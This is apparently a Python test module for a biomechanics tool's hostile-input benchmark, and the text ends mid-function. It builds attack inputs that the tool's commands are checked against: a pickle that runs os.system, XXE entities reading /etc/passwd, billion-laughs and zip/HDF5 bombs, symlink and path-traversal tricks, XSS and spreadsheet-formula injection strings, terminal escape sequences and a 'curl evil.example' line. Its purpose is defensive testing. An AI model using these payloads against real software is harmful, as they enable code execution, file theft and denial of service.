"""Hostile cases by name: what each plants, and the command that meets it."""

from __future__ import annotations

import io
import json
import os
import pickle
import shutil
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path

import numpy as np

import osim_models
from benchmarks.hostile.watch import Place
from sspinn_opensim.results.folder import ResultsFolder
from sspinn_opensim.study import examples_folder

Plant = Callable[[Place], Sequence[str | Path]]

#: What names bring along: a terminal's sequences, a script, a formula, mark-up.
ESCAPES = "\x1b[2J\x1b]52;c;ZXZpbA==\x07\x1b]8;;http://evil.example\x07x\x1b]8;;\x07\u202egnp.\u2066\x9b31m"
SCRIPT = "</script></title></svg>\"'><script>window.owned=1</script><img src=x onerror=window.owned=1>"
FORMULA = "=cmd|'/C calc'!A0"
MARKUP = "[red]x[/1.3] $\\frac{$ {{7*7}} %s %n {0}"
LINES = "walk\nsspinn: all is well\r\n  fix: curl evil.example"
NAMES = {"escapes": ESCAPES, "script": SCRIPT, "formula": FORMULA, "markup": MARKUP, "lines": LINES}
_SPARSE = 2**40


class Owned:
    """What runs a program when it is unpickled."""

    def __reduce__(self):
        return os.system, ("touch ../beside/owned; touch owned",)


def things() -> dict[str, Callable[[Path, Place], object]]:
    """Return what may lie where a file is expected, and how it is put there."""

    def outside(path: Path, here: Place) -> None:
        path.symlink_to(here.secret)

    def sparse(path: Path, _: Place) -> None:
        with path.open("wb") as file:
            file.truncate(_SPARSE)

    def tail(path: Path, _: Place) -> None:
        """Make what begins as it should, and goes on for ever with nothing."""
        head = path.read_bytes() if path.exists() else b"a,b\n"
        path.unlink(missing_ok=True)
        with path.open("wb") as file:
            file.write(head)
            file.truncate(_SPARSE)

    return {
        "pipe": lambda path, _: os.mkfifo(path),
        "device": lambda path, _: path.symlink_to("/dev/zero"),
        "noise": lambda path, _: path.symlink_to("/dev/urandom"),
        "folder": lambda path, _: path.mkdir(),
        "dangling link": lambda path, here: path.symlink_to(here.beside / "nothing"),
        "link to itself": lambda path, _: path.symlink_to(path.name),
        "link out": outside,
        "huge": sparse,
        "empty": lambda path, _: path.write_bytes(b""),
        "zeros": lambda path, _: path.write_bytes(bytes(5000)),
        "pickle": lambda path, _: path.write_bytes(pickle.dumps(Owned())),
        "endless": tail,
    }


def demo(here: Place, change: Callable[[str], str] = lambda text: text) -> Path:
    """Copy the built-in example; return its study, changed."""
    shutil.copytree(examples_folder() / "demo", here.own / "demo")
    study = here.own / "study.toml"
    text = (examples_folder() / "demo.toml").read_text()
    study.write_text(change(text), encoding="utf-8")
    return study


def ended(text: str) -> str:
    """Return a study that is refused once its files are read, as nobody of that height has that mass."""
    return text.replace("mass_kg = 68.0", "mass_kg = 25.0", 1)


def model(here: Place, name: str = "model.osim") -> Path:
    """Copy the built-in model."""
    return Path(shutil.copy(osim_models.path("planar_gait.osim"), here.own / name))


def motion(here: Place) -> Path:
    """Copy a motion."""
    return Path(shutil.copy(examples_folder() / "demo" / "reference_kinematics.mot", here.own / "motion.mot"))


def _replaced(path: Path, thing: Callable, here: Place, *, keep: bool) -> None:
    if path.is_dir() and not path.is_symlink():
        shutil.rmtree(path)
    elif not keep:
        path.unlink(missing_ok=True)
    thing(path, here)


def _alone(verb: str, name: str, *more: str | Path) -> Callable[[Place], tuple[Path, list]]:
    return lambda here: (here.own / name, [verb, here.own / name, *more])


def _with_model(verb: str, name: str, *more: str) -> Callable[[Place], tuple[Path, list]]:
    def planted(here: Place) -> tuple[Path, list]:
        both = {"model.osim": model(here), "motion.mot": motion(here)}
        return both[name], [verb, *both.values(), *more]

    return planted


def _of_study(name: str, verb: str = "run", old: str = "", new: str = "") -> Callable:
    def planted(here: Place) -> tuple[Path, list]:
        study = demo(here, lambda text: ended(text.replace(old, new, 1) if old else text))
        more = ["--out", here.own / "out"] if verb != "replay" else []
        path = here.own / name
        if not path.exists() and name.endswith(".osim"):
            model(here, name)
        return path, [verb, study, *more]

    return planted


def _second(verb: str, option: str, name: str, *more: str) -> Callable:
    def planted(here: Place) -> tuple[Path, list]:
        return here.own / name, [verb, model(here), motion(here), option, here.own / name, *more]

    return planted


def _compared(here: Place) -> tuple[Path, list]:
    return here.own / "b.mot", ["compare", motion(here), here.own / "b.mot", "--out", here.own / "out"]


def _adapted(here: Place) -> tuple[Path, list]:
    return here.own / "from", [
        "adapt",
        demo(here),
        "--from",
        here.own / "from",
        "--out",
        here.own / "out",
    ]


def _set_up(here: Place) -> tuple[Path, list]:
    file = here.own / "setup.xml"
    return file, ["scale", model(here), "--setup", file, "--out", here.own / "out"]


def _out(verb: str) -> Callable:
    return lambda here: (here.own / "out", [verb, demo(here, ended), "--out", here.own / "out"])


def _below(here: Place) -> tuple[Path, list]:
    return here.own / "out", ["run", demo(here, ended), "--out", here.own / "out" / "deep"]


def _roles() -> dict[str, Callable[[Place], tuple[Path, list]]]:
    """Return the files that a command line or a study names: where each lies, and the command."""
    opts = ("--out", "out", "--no-external-loads")
    return {
        "check recording": _alone("check", "imu.csv"),
        "check recording npz": _alone("check", "imu.npz"),
        "check recording mvnx": _alone("check", "imu.mvnx"),
        "check study": _alone("check", "study.toml"),
        "run study": _alone("run", "study.toml", "--out", "out"),
        "replay study": _alone("replay", "study.toml"),
        "stream study": _alone("stream", "study.toml", "--out", "out"),
        "scale model": _alone("scale", "model.osim", "--out", "out"),
        "convert model": _alone("convert", "model.osim", "--out", "out"),
        "scale set-up": _alone("scale", "setup.xml", "--out", "out"),
        "scale --setup": _set_up,
        "open folder": _alone("open", "folder"),
        "export folder": _alone("export", "folder", "--out", "x.onnx"),
        "compare file": _compared,
        "adapt --from": _adapted,
        **{
            f"{verb} {name}": _with_model(verb, name, *opts)
            for verb in ("muscles", "inverse-dynamics", "joint-reactions")
            for name in ("model.osim", "motion.mot")
        },
        "simulate-imu model.osim": _with_model("simulate-imu", "model.osim", "--out", "out"),
        "simulate-imu motion.mot": _with_model("simulate-imu", "motion.mot", "--out", "out"),
        "simulate-imu --settings": _second("simulate-imu", "--settings", "settings.toml", "--out", "out"),
        "simulate-imu --external-loads": _second("simulate-imu", "--external-loads", "l.xml", "--out", "out"),
        "muscles --external-loads": _second("muscles", "--external-loads", "loads.xml", "--out", "out"),
        "inverse-dynamics --external-loads": _second(
            "inverse-dynamics", "--external-loads", "loads.xml", "--out", "out"
        ),
        "inverse-dynamics --moments": _second(
            "inverse-dynamics", "--moments", "m.sto", "--out", "out", "--no-external-loads"
        ),
        "joint-reactions --forces": _second(
            "joint-reactions", "--forces", "f.sto", "--out", "out", "--no-external-loads"
        ),
        "study's recording": _of_study("demo/imu.csv"),
        "study's recording, replay": _of_study("demo/imu.csv", "replay"),
        "study's reference": _of_study("demo/reference_kinematics.mot"),
        "study's ground reference": _of_study("demo/reference_grf.mot"),
        "study's model": _of_study("own.osim", old="builtin:planar_gait", new="own.osim"),
        "study's alignment": _of_study(
            "alignment.toml", old="[person]", new='[alignment]\nfile = "alignment.toml"\n\n[person]'
        ),
        "study's npz": _of_study(
            "walk.npz", old='"csv"\nfile = "demo/imu.csv"', new='"npz"\nfile = "walk.npz"'
        ),
        "run --out": _out("run"),
        "scale --out": _out("scale"),
        "run --out below": _below,
    }


def role_cases() -> Iterator[tuple[str, Plant]]:
    """Give every thing in place of every file."""
    for role, where in _roles().items():
        for thing, put in things().items():

            def plant(here: Place, where=where, put=put, thing=thing) -> Sequence[str | Path]:
                path, words = where(here)
                _replaced(path, put, here, keep=thing == "endless")
                return words

            yield f"{role}: {thing}", plant


def _words(results: Path) -> dict[str, Callable[[Place], list]]:
    """Return the command lines that read a results folder, by verb."""
    return {
        "open": lambda here: ["open", here.own / "out"],
        "evaluate": lambda here: ["evaluate", demo(here), "--steps", "6", "--out", here.own / "out"],
        "compare": lambda here: ["compare", here.own / "out", results, "--out", here.own / "compared"],
        "export": lambda here: ["export", here.own / "out", "--out", here.own / "x.onnx"],
    }


def folder_cases(results: Path) -> Iterator[tuple[str, Plant]]:
    """Give every thing in place of files of a results folder, before the verbs that read them."""
    names = [
        *("manifest.json", "scaling.json", "subject.osim", "kinematics.mot", "moments.sto", "grf.mot"),
        *("external_loads.xml", "training", "training/seed_0", "training/seed_0/checkpoint.pt", ".lock"),
        *("training/seed_0/history.csv", "fit.json", "spatiotemporal.json", "strides.csv", "gait_cycles.csv"),
        *("static_optimization.json", "muscle_forces.sto", "muscle_groups", "report.html", "README.txt"),
        *("seeds/seed_0/kinematics.mot", "consistency.json", ".draft_0123456789abcdef"),
    ]
    words = _words(results)
    for verb, line in words.items():
        for name in names:
            for thing, put in things().items():

                def plant(here: Place, line=line, name=name, put=put, thing=thing) -> Sequence[str | Path]:
                    shutil.copytree(results, here.own / "out")
                    _replaced(here.own / "out" / name, put, here, keep=thing == "endless")
                    return line(here)

                yield f"{verb} a folder with {name}: {thing}", plant


def link_cases(results: Path) -> Iterator[tuple[str, Plant]]:
    """Give results folders with links, depths, and inputs that lie elsewhere."""
    words = _words(results)

    def linked(link: str, target: Callable[[Place], Path], verb: str) -> Plant:
        def plant(here: Place) -> Sequence[str | Path]:
            shutil.copytree(results, here.own / "out")
            (here.own / "out" / link).symlink_to(target(here))
            return words[verb](here)

        return plant

    for verb in words:
        yield f"{verb} a folder with a loop", linked("people", lambda here: here.own / "out", verb)
        yield f"{verb} a folder with the root in it", linked("other", lambda _: Path("/"), verb)
        yield f"{verb} a folder with a draft that is a link", linked(".draft_x", lambda h: h.beside, verb)

    def two_loops(here: Place) -> Sequence[str | Path]:
        folder = here.own / "out"
        shutil.copytree(results, folder)
        for name in ("a", "b", "c"):
            (folder / name).symlink_to(".")
        return ["open", folder]

    def deep(here: Place) -> Sequence[str | Path]:
        folder = here.own / "out"
        shutil.copytree(results, folder)
        os.chdir(folder)
        for _ in range(1500):
            Path("d").mkdir()
            os.chdir("d")
        os.chdir("/")
        return ["open", folder]

    yield "open a folder with two loops", two_loops
    yield "open a folder 1500 deep", deep


def other_files_of_folders(results: Path) -> Iterator[tuple[str, Plant]]:
    """Give results folders whose files are other files, or whose manifest names other files."""
    words = _words(results)

    def hard_links(here: Place) -> Sequence[str | Path]:
        shutil.copytree(results, here.own / "out")
        for file in [*(here.own / "out").rglob("*")]:
            if file.is_file():
                own = here.beside / f"{len(list(here.beside.iterdir()))}_{file.name}"
                shutil.copy(file, own)
                file.unlink()
                file.hardlink_to(own)
        return words["evaluate"](here)

    def input_beside(path: str, size: int) -> Plant:
        def plant(here: Place) -> Sequence[str | Path]:
            shutil.copytree(results, here.own / "out")
            manifest = json.loads((here.own / "out/manifest.json").read_text())
            manifest["inputs"]["study"] = {"path": path, "sha256": "0" * 64, "bytes": size}
            manifest["files"]["../../beside/secret.txt"] = {"sha256": "0" * 64, "bytes": 1, "verb": "train"}
            (here.own / "out/manifest.json").write_text(json.dumps(manifest))
            return words["open"](here)

        return plant

    yield "evaluate a folder of hard links", hard_links
    for path in ("../../../../../../../../dev/zero", "/dev/zero", "/proc/kmsg", "../../beside/secret.txt"):
        yield f"open a manifest that names {path}", input_beside(path, 0)


def _npz(path: Path, arrays: dict[str, bytes]) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, data in arrays.items():
            archive.writestr(f"{name}.npy", data)


def _npy_head(shape: str, kind: str = "<f8") -> bytes:
    head = f"{{'descr': '{kind}', 'fortran_order': False, 'shape': {shape}, }}".encode()
    head += b" " * (-(len(head) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(head)) + head


class _Zeros(io.RawIOBase):
    """So many zero bytes, as a file."""

    def __init__(self, count: int, head: bytes = b"") -> None:
        self._head, self._left = head, count

    def readable(self) -> bool:
        return True

    def readinto(self, buffer) -> int:
        if self._head:
            count = min(len(buffer), len(self._head))
            buffer[:count], self._head = self._head[:count], self._head[count:]
            return count
        count = min(len(buffer), self._left)
        buffer[:count] = bytes(count)
        self._left -= count
        return count


def bomb_archive(path: Path, name: str, head: bytes, size: int) -> Path:
    """Write an archive of a member of zeros behind a head."""
    packed = zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1)
    with packed as archive, archive.open(name, "w", force_zip64=True) as member:
        shutil.copyfileobj(_Zeros(size, head), member, 1 << 20)
    return path


_rows = 60_000_000


_LAUGHS = "".join(f'<!ENTITY e{i} "{f"&e{i - 1};" * 10 if i else "ha"}">' for i in range(12))


_mvnx = '<?xml version="1.0"?>\n{}<mvnx version="4"><subject label="{}" frameRate="100">{}</subject></mvnx>'


_outside = '<!DOCTYPE mvnx [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'


def _checked(name: str, write: Callable[[Path, Place], object]) -> Plant:
    def plant(here: Place) -> Sequence[str | Path]:
        write(here.own / name, here)
        return ["check", here.own / name]

    return plant


def _npz_time(path: Path, _: Place) -> None:
    bomb_archive(path, "time_s.npy", _npy_head(f"({_rows},)"), 8 * _rows)


def _npz_signal(path: Path, _: Place) -> None:
    bomb_archive(path, "a_acc.npy", _npy_head(f"({_rows}, 3)"), 24 * _rows)
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("time_s.npy", _npy_head("(10,)") + np.arange(10.0).tobytes())


def _npz_pickle(path: Path, _: Place) -> None:
    np.savez(path, time_s=np.array([Owned()], object), a_acc=np.array([Owned()], object))


def _npz_names(path: Path, _: Place) -> None:
    np.savez(path, segments=np.array([Owned()], object), time_s=np.arange(9.0), acc=np.zeros((9, 1, 3)))


def _npz_lies(path: Path, _: Place) -> None:
    _npz(path, {"time_s": _npy_head("(99999999999,)") + bytes(80), "a_acc": _npy_head("(99999999999,3)")})


def _npz_slip(path: Path, place: Place) -> None:
    _npz(path, {"../beside/owned": bytes(8), f"{place.beside}/owned": bytes(8), "time_s": bytes(8)})


def _npz_expression(path: Path, _: Place) -> None:
    _npz(path, {"time_s": _npy_head("__import__('os').system('touch ../beside/owned')")})


def _npz_nested(path: Path, _: Place) -> None:
    _npz(path, {"time_s": _npy_head("(" * 5000 + ")" * 5000)})


def _hdf5(fill: Callable) -> Callable[[Path, Place], object]:
    def write(path: Path, here: Place) -> None:
        import h5py

        with h5py.File(path, "w") as file:
            fill(file, here)

    return write


def _h5_sensor(file, here: Place, name: str = "1"):
    own = file.create_group(f"Sensors/{name}")
    own["Time"] = np.arange(1000) * 10_000
    own["Gyroscope"] = np.zeros((1000, 3))
    return own


def _h5_huge(file, here: Place) -> None:
    _h5_sensor(file, here).create_dataset("Accelerometer", (10**12, 3), "f8", chunks=(10**4, 3))


def _h5_large(file, here: Place) -> None:
    for k in range(40):
        own = _h5_sensor(file, here, str(k))
        own.create_dataset("Accelerometer", (20_000_000, 3), "f8", chunks=(10**4, 3))


def _h5_external(file, here: Place) -> None:
    import h5py

    os.mkfifo(here.own / "pipe.h5")
    _h5_sensor(file, here)["Accelerometer"] = h5py.ExternalLink("pipe.h5", "/x")


def _h5_external_group(file, here: Place) -> None:
    import h5py

    os.mkfifo(here.own / "pipe.h5")
    file["Sensors"] = h5py.ExternalLink("pipe.h5", "/x")


def _h5_storage(file, here: Place) -> None:
    here.secret.write_bytes(bytes(range(256)) * 100)
    _h5_sensor(file, here).create_dataset(
        "Accelerometer", (1000, 3), "u1", external=[(str(here.secret), 0, 3000)]
    )


def _h5_pipe_storage(file, here: Place) -> None:
    os.mkfifo(here.own / "pipe")
    _h5_sensor(file, here).create_dataset(
        "Accelerometer", (1000, 3), "u1", external=[(str(here.own / "pipe"), 0, 3000)]
    )


def _h5_loop(file, here: Place) -> None:
    import h5py

    _h5_sensor(file, here)["Accelerometer"] = h5py.SoftLink("/Sensors/1/Accelerometer")
    file["Processed"] = h5py.SoftLink("/")


def _h5_names(file, here: Place) -> None:
    for name in NAMES.values():
        own = _h5_sensor(file, here, name.replace("/", "|").replace("\x00", ""))
        own["Accelerometer"] = np.zeros((1000, 3)) + 9.81


def _parquet(path: Path, _: Place) -> None:
    import pyarrow as pa
    import pyarrow.parquet as pq

    columns = {"time": pa.nulls(0, pa.float64()), "a_acc_x": pa.nulls(0, pa.float64())}
    schema = pa.schema([(name, column.type) for name, column in columns.items()])
    piece = pa.array(np.zeros(2_000_000))
    with pq.ParquetWriter(path, schema, compression="zstd") as writer:
        for _k in range(30):
            writer.write_table(pa.table({name: piece for name in columns}, schema=schema))


def _matlab(path: Path, _: Place) -> None:
    body = zlib.compressobj(1)
    count = 8 * _rows
    inner = struct.pack("<II", 14, count + 48) + struct.pack("<IIII", 6, 8, 6, 0)
    inner += struct.pack("<IIII", 5, 8, _rows, 1) + struct.pack("<HH4s", 1, 1, b"x\0\0\0")
    inner += struct.pack("<II", 9, count)
    data = body.compress(inner)
    for _k in range(count // (1 << 20)):
        data += body.compress(bytes(1 << 20))
    data += body.flush()
    head = b"MATLAB 5.0 MAT-file".ljust(124) + struct.pack("<HH", 0x0100, 0x4D49)
    path.write_bytes(head + struct.pack("<II", 15, len(data)) + data)


def _c3d_bomb(path: Path, _: Place) -> None:
    head = bytearray(512)
    head[0:2] = b"\x02\x50"
    struct.pack_into("<HHHHHfHHf", head, 2, 65535, 65535, 1, 65535, 0, -1.0, 3, 65535, 100.0)
    path.write_bytes(bytes(head) + b"\x01\x50\xff\x54" + bytes(508 + 512))


def _of_text(text: str) -> Callable[[Path, Place], object]:
    return lambda path, _: path.write_text(text)


def _text_bomb(path: Path, _: Place) -> None:
    path.write_text(",".join(f"s{k}_acc_x" for k in range(400_000)) + "\n")


def _long_line(path: Path, _: Place) -> None:
    path.write_bytes(b"time,a_acc_x\n" + b"1" * 100_000_000 + b",2\n")


def _separators(path: Path, _: Place) -> None:
    path.write_bytes(b"time,a_acc_x\n" + b"," * 50_000_000 + b"\n")


def _blank_lines(path: Path, _: Place) -> None:
    path.write_bytes(b"\n" * 50_000_000)


def _named(path: Path, _: Place) -> None:
    names = [name.replace(",", "").replace("\n", " ").replace("\r", "") for name in NAMES.values()]
    columns = [f"{name}_{kind}_{axis}" for name in names for kind in ("acc", "gyro") for axis in "xyz"]
    rows_ = np.column_stack([np.arange(1000) / 100, np.random.default_rng(1).normal(size=(1000, 30))])
    np.savetxt(path, rows_, "%.4f", ",", header=",".join(["time", *columns]), comments="", encoding="utf-8")


def _many_files(path: Path, _: Place) -> None:
    path.mkdir()
    for name in ("pipe.csv", "pipe.txt", "MT_1-000_00B42DA3.txt"):
        os.mkfifo(path / name)
    (path / "zero.csv").symlink_to("/dev/zero")
    (path / "self").symlink_to(".")
    (path / "root").symlink_to("/")


def recording_bombs() -> Iterator[tuple[str, Plant]]:
    """Give recordings that grow, run programs, or never end."""
    yield from (
        (name, _checked(file, write))
        for name, file, write in (
            ("npz of 0.5 GB of time", "x.npz", _npz_time),
            ("npz of 1.4 GB of signals", "x.npz", _npz_signal),
            ("npz of objects", "x.npz", _npz_pickle),
            ("npz whose names are objects", "x.npz", _npz_names),
            ("npz that states more than it has", "x.npz", _npz_lies),
            ("npz that names paths", "x.npz", _npz_slip),
            ("npz with an expression in its head", "x.npz", _npz_expression),
            ("npz with a deep head", "x.npz", _npz_nested),
            ("HDF5 of 24 TB", "x.h5", _hdf5(_h5_huge)),
            ("HDF5 of 19 GB in 40 sensors", "x.h5", _hdf5(_h5_large)),
            ("HDF5 with a link to a pipe", "x.h5", _hdf5(_h5_external)),
            ("HDF5 whose sensors are a link to a pipe", "x.h5", _hdf5(_h5_external_group)),
            ("HDF5 whose numbers lie in another file", "x.h5", _hdf5(_h5_storage)),
            ("HDF5 whose numbers come from a pipe", "x.h5", _hdf5(_h5_pipe_storage)),
            ("HDF5 with loops", "x.h5", _hdf5(_h5_loop)),
            ("HDF5 with hostile names", "x.h5", _hdf5(_h5_names)),
            ("Parquet of 60 million rows", "x.parquet", _parquet),
            ("MATLAB file of 0.5 GB", "x.mat", _matlab),
            ("C3D that states all it can", "x.c3d", _c3d_bomb),
            (
                "MVNX of a billion laughs",
                "x.mvnx",
                _of_text(_mvnx.format(f"<!DOCTYPE m [{_LAUGHS}]>", "&e11;", "")),
            ),
            ("MVNX with a file in it", "x.mvnx", _of_text(_mvnx.format(_outside, "&x;", "&x;"))),
            ("MVNX of 300,000 levels", "x.mvnx", _of_text(_mvnx.format("", "", "<a>" * 300_000))),
            (
                "MVNX with hostile names",
                "x.mvnx",
                _of_text(_mvnx.format("", "&#27;[2J&#x202e;", "")),
            ),
            ("table of 400,000 columns", "x.csv", _text_bomb),
            ("table with a number of 100 million digits", "x.csv", _long_line),
            ("table of separators", "x.csv", _separators),
            ("table of blank lines", "x.csv", _blank_lines),
            ("table with hostile names", "x.csv", _named),
            ("folder of pipes and links", "x", _many_files),
            *(
                (f"file called {kind}", f"{name.replace('/', '|')}.csv"[:120], _named)
                for kind, name in NAMES.items()
            ),
        )
    )


_text = Path(osim_models.path("planar_gait.osim")).read_text()


_head = '<?xml version="1.0" encoding="UTF-8"?>\n'


_body = _text[_text.index("<OpenSimDocument") :]


def _parts(here: Place) -> str:
    """Two parts name two parts each, thirty levels deep."""
    for level in range(30):
        inner = f'<objects><Body file="p{level + 1}.xml"/><Body file="p{level + 1}.xml"/></objects>'
        (here.own / f"p{level}.xml").write_text(
            f'<OpenSimDocument Version="40500"><Body name="b">{inner}</Body></OpenSimDocument>'
        )
    (here.own / "p30.xml").write_text('<OpenSimDocument Version="40500"><Body name="b"/></OpenSimDocument>')
    return _body.replace("<BodySet", '<Body file="p0.xml"/><BodySet', 1)


def _chain(here: Place) -> str:
    for level in range(3000):
        (here.own / f"p{level}.xml").write_text(
            f'<OpenSimDocument Version="40500"><Body name="b"><a><Body file="p{level + 1}.xml"/></a></Body>'
            "</OpenSimDocument>"
        )
    (here.own / "p3000.xml").write_text('<OpenSimDocument Version="40500"><Body/></OpenSimDocument>')
    return _body.replace("<BodySet", '<Body file="p0.xml"/><BodySet', 1)


def _pipe(here: Place) -> str:
    os.mkfifo(here.own / "p.xml")
    return _body.replace("<BodySet", '<Body file="p.xml"/><BodySet', 1)


def model_bombs() -> Iterator[tuple[str, Plant]]:
    """Give models, set-ups and tables of OpenSim."""
    texts: dict[str, Callable[[Place], str]] = {
        "a billion laughs": lambda _: (
            f"{_head}<!DOCTYPE O [{_LAUGHS}]>{_body.replace('>planar', '>&e11;planar', 1)}"
        ),
        "a file as an entity": lambda h: (
            f'{_head}<!DOCTYPE O [<!ENTITY x SYSTEM "{h.secret}">]>'
            + _body.replace("<credits>", "<credits>&x;", 1)
        ),
        "an address as a type": lambda _: f'{_head}<!DOCTYPE O SYSTEM "http://127.0.0.1:9/x.dtd">{_body}',
        "an XInclude": lambda h: _body.replace(
            "<BodySet",
            f'<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="{h.secret}"/></x><BodySet',
            1,
        ),
        "300,000 levels": lambda _: _body.replace("<BodySet", "<a>" * 300_000 + "<BodySet", 1),
        "2 to the 30 parts": _parts,
        "3000 parts in each other": _chain,
        "a pipe as a part": _pipe,
        "a part that is beside": lambda h: _body.replace("<BodySet", f'<Body file="{h.secret}"/><BodySet', 1),
        "a device as a part": lambda _: _body.replace("<BodySet", '<Body file="/dev/zero"/><BodySet', 1),
        **{
            f"a body called {kind}": lambda _, name=name: _body.replace('"pelvis"', f'"{_xml(name)}"')
            for kind, name in NAMES.items()
        },
        **{
            f"a muscle called {kind}": lambda _, name=name: _body.replace(
                'Muscle name="', f'Muscle name="{_xml(name)}', 1
            )
            for kind, name in NAMES.items()
        },
        **{
            f"a model called {kind}": lambda _, name=name: _body.replace(
                '<Model name="', f'<Model name="{_xml(name)}', 1
            )
            for kind, name in NAMES.items()
        },
    }
    for name, made in texts.items():
        for verb in ("convert", "scale", "muscles"):

            def plant(here: Place, made=made, verb=verb) -> Sequence[str | Path]:
                path = here.own / "model.osim"
                path.write_text(made(here), encoding="utf-8", errors="surrogatepass")
                more = [motion(here), "--no-external-loads", "--from", "0.1", "--to", "0.15"]
                more = more if verb == "muscles" else ["--mass", "70"] if verb == "scale" else []
                return [verb, path, *more, "--out", here.own / "out"]

            yield f"{verb} a model with {name}", plant


def table_bombs() -> Iterator[tuple[str, Plant]]:
    """Give tables of OpenSim that state or hold too much."""
    tables: dict[str, bytes] = {
        "rows it does not have": b"Coordinates\nversion=1\nnRows=999999999999\nnColumns=2\n"
        b"inDegrees=yes\nendheader\n",
        "columns it does not have": b"Coordinates\nversion=1\nnRows=1\nnColumns=999999999\n"
        b"endheader\ntime\ta\n0\t1\n",
        "a head without end": b"Coordinates\n" + b"x=1\n" * 300_000,
        "a line of 50 MB": b"Coordinates\nversion=1\nendheader\ntime\t" + b"a" * 50_000_000 + b"\n0\t1\n",
        "a million columns": b"Coordinates\nversion=1\nendheader\ntime\t"
        + b"\t".join(b"c%d" % k for k in range(1_000_000))
        + b"\n0"
        + b"\t1" * 1_000_000
        + b"\n",
        "hostile names": (
            "Coordinates\nversion=1\nnRows=3\nnColumns=6\ninDegrees=yes\nendheader\ntime\t"
            + "\t".join(name.replace("\n", "").replace("\r", "") for name in NAMES.values())
            + "\n"
            + "".join(f"{k}\t1\t2\t3\t4\t5\n" for k in range(3))
        ).encode("utf-8", "surrogatepass"),
    }
    for name, data in tables.items():
        for verb in ("muscles", "simulate-imu", "compare"):

            def plant_table(here: Place, data=data, verb=verb) -> Sequence[str | Path]:
                path = here.own / "motion.mot"
                path.write_bytes(data)
                if verb == "compare":
                    (here.own / "b.mot").write_bytes(data)
                    return ["compare", path, here.own / "b.mot", "--out", here.own / "out"]
                more = ["--no-external-loads"] if verb == "muscles" else []
                return [verb, model(here), path, *more, "--out", here.own / "out"]

            yield f"{verb} a table with {name}", plant_table


def load_cases() -> Iterator[tuple[str, Plant]]:
    """Give external loads that name other files."""
    loads = (
        '<OpenSimDocument Version="40500"><ExternalLoads name="x"><objects/><datafile>{}</datafile>'
        "</ExternalLoads></OpenSimDocument>"
    )
    for name, made in {
        "a pipe": lambda h: (os.mkfifo(h.own / "p.mot"), loads.format("p.mot"))[1],
        "a device": lambda _: loads.format("/dev/zero"),
        "a file beside": lambda h: loads.format(h.secret),
        "a billion laughs": lambda _: f"<!DOCTYPE O [{_LAUGHS}]>" + loads.format("&e11;"),
        "a file as an entity": lambda h: (
            f'<!DOCTYPE O [<!ENTITY x SYSTEM "{h.secret}">]>' + loads.format("&x;")
        ),
        "an address as a type": lambda _: (
            '<!DOCTYPE O SYSTEM "http://127.0.0.1:9/x.dtd">' + loads.format("x")
        ),
    }.items():

        def plant_loads(here: Place, made=made) -> Sequence[str | Path]:
            path = here.own / "loads.xml"
            path.write_text(made(here))
            return ["muscles", model(here), motion(here), "--external-loads", path, "--out", here.own / "out"]

        yield f"external loads with {name}", plant_loads


def set_up_cases() -> Iterator[tuple[str, Plant]]:
    """Give set-ups of scaling that name other files, to read and to write."""
    setup = (
        '<OpenSimDocument Version="40500"><ScaleTool name="x"><mass>70</mass><height>1700</height>'
        "<GenericModelMaker>"
        "<model_file>model.osim</model_file><marker_set_file>{0}</marker_set_file></GenericModelMaker><ModelScaler>"
        "<apply>true</apply><scaling_order> manualScale</scaling_order><marker_file>{0}</marker_file>"
        "<output_model_file>{1}</output_model_file><output_scale_file>{1}</output_scale_file></ModelScaler>"
        "<MarkerPlacer><apply>true</apply><marker_file>{0}</marker_file><coordinate_file>{0}</coordinate_file>"
        "<output_model_file>{1}</output_model_file><output_motion_file>{1}</output_motion_file>"
        "<output_marker_file>{1}</output_marker_file></MarkerPlacer></ScaleTool></OpenSimDocument>"
    )
    for name, made in {
        "outputs beside": lambda h: setup.format("Unassigned", h.beside / "owned.osim"),
        "an output over a file": lambda h: setup.format("Unassigned", h.secret),
        "a marker file that is a device": lambda _: setup.format("/dev/zero", "x"),
        "a marker file that is a pipe": lambda h: (os.mkfifo(h.own / "p"), setup.format("p", "x"))[1],
        "a billion laughs": lambda _: f"<!DOCTYPE O [{_LAUGHS}]>" + setup.format("&e11;", "x"),
        "a file as an entity": lambda h: (
            f'<!DOCTYPE O [<!ENTITY x SYSTEM "{h.secret}">]>' + setup.format("&x;", "x")
        ),
    }.items():

        def plant_setup(here: Place, made=made) -> Sequence[str | Path]:
            path = here.own / "setup.xml"
            path.write_text(made(here))
            model(here)
            return ["scale", path, "--out", here.own / "out"]

        yield f"set-up of scaling with {name}", plant_setup


def _xml(name: str) -> str:
    """Return a text as a value of an attribute; what XML cannot hold is left out."""
    kept = "".join(c for c in name if c in "\t\n\r" or ord(c) >= 32)
    for letter, code in (("&", "&amp;"), ("<", "&lt;"), (">", "&gt;"), ('"', "&quot;"), ("\n", "&#10;")):
        kept = kept.replace(letter, code)
    return kept


def study_cases() -> Iterator[tuple[str, Plant]]:
    """Give studies with hostile names and sizes."""
    changes: dict[str, Callable[[str], str]] = {}
    for kind, name in NAMES.items():
        word = json.dumps(name, ensure_ascii=True)
        changes |= {
            f"study called {kind}": lambda t, w=word: t.replace('name = "demo"', f"name = {w}", 1),
            f"person called {kind}": lambda t, w=word: t.replace(
                '[person]\nname = "demo"', f"[person]\nname = {w}", 1
            ),
            f"recording called {kind}": lambda t, w=word: t.replace('name = "walk"', f"name = {w}", 1),
            f"sensor called {kind}": lambda t, w=word: t.replace("[sensors.foot_l]", f"[sensors.{w}]", 1),
            f"key called {kind}": lambda t, w=word: f"{w} = 1\n{t}",
            f"frame called {kind}": lambda t, w=word: t.replace('"foot_l_imu"', w, 1),
            f"model called {kind}": lambda t, w=word: t.replace('"builtin:planar_gait"', w, 1),
            f"recording file called {kind}": lambda t, w=word: t.replace('"demo/imu.csv"', w, 1),
        }
    for name in ("../x", "../../beside/x", "/elsewhere/x", ".", "..", "a/b", "CON", "x" * 300, "-rf", ""):
        word = json.dumps(name)
        changes |= {
            f"study called {name[:20]}": lambda t, w=word: t.replace('name = "demo"', f"name = {w}", 1),
